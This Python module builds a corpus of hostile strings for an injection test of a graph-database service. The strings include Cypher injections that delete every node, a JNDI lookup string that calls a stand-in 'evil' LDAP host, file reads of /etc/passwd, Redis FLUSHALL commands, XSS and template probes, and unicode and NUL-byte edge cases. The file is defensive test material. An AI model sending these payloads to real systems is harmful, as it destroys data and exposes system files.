"""The hostile-string corpus of the injection test (point 2): quotes, backticks, comment
markers, Cypher fragments, unicode escapes and look-alikes, control and NUL bytes, huge strings.

Built from fragments and wrappers so it is easy to extend; ``CORPUS`` holds at least 200
distinct strings.
"""

from __future__ import annotations

__all__ = ["CORPUS"]

_FRAGMENTS = (
    "'}) DETACH DELETE n //",
    '"}) DETACH DELETE n //',
    "` DETACH DELETE n //",
    "') MATCH (n) DETACH DELETE n //",
    "x' OR 1=1 //",
    'x" OR "1"="1',
    "'; MATCH (n) SET n.name = 'pwned' //",
    "}) CREATE (:Organisation {id: 'org-evil'}) //",
    "]->() DELETE r //",
    "*/ MATCH (n) DETACH DELETE n /*",
    "/* comment */",
    "// line comment",
    "\\' RETURN 1 //",
    '\\" RETURN 1 //',
    "\\",
    "$id",
    "{id}",
    "${jndi:ldap://evil/x}",
    "LOAD CSV FROM 'file:///etc/passwd' AS r RETURN r",
    "CALL db.labels()",
    "CALL { CREATE (n) } RETURN 1",
    "FOREACH (x IN [1] | CREATE (:Topic))",
    "UNION MATCH (p:Person) RETURN p.email",
    "_Suppressed",
    "GRAPH.DELETE scaleup",
    "\r\nFLUSHALL\r\n",
    "*3\r\n$8\r\nFLUSHALL\r\n",
    "\u0027 DETACH DELETE n \u002f\u002f",
    "\\u0027}) DETACH DELETE n //",
    "ＤＥＴＡＣＨ ＤＥＬＥＴＥ",
    "DΕLETE",  # Greek epsilon
    "org\u200b-rmn",
    "org-rmn\u202e",
    "K\u00f6ln",
    "Ko\u0308ln",
    "\u0130stanbul",
    "ß",
    "🏢 GmbH",
    "\ufeffBOM",
    "\x00",
    "a\x00b",
    "\x01\x02\x1f\x7f",
    "\t\n\r",
    "%00",
    "%27%7D%29",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "{{7*7}}",
    "null",
    "undefined",
    "NaN",
    "-1",
    "9" * 40,
    "",
    " ",
)
_WRAPPERS = ("{}", "org-rmn{}", "{}org-rmn", "Anna {}")


def _build() -> tuple[str, ...]:
    out: list[str] = []
    for fragment in _FRAGMENTS:
        for wrapper in _WRAPPERS:
            value = wrapper.format(fragment)
            if value not in out:
                out.append(value)
    # Sizes: long names, a 64 KB and a 1 MB string (bodies take them; URLs are cut by servers).
    out += ["A" * 5_000, "'" * 10_000, "\\" * 10_001, "x" * 65_536, "é" * 1_048_576]
    return tuple(out)


CORPUS = _build()
